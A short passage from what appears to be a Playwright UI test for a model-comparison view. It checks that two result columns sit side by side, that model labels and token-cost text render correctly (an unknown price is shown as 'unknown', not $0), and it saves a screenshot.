    left, right = columns.nth(0).bounding_box(), columns.nth(1).bounding_box()
    assert left and right and right["x"] >= left["x"] + left["width"] - 1  # beside, not below
    assert "gpt-4o-mini (kept)" in columns.nth(0).inner_text()
    assert "Echo: Compare these two" in columns.nth(1).inner_text()
    assert "tokens · $" in columns.nth(0).inner_text()  # its price is known
    assert "tokens · unknown" in columns.nth(1).inner_text()  # never shown as $0
    cells.nth(3).screenshot(path=shots("compare-cell.png"))
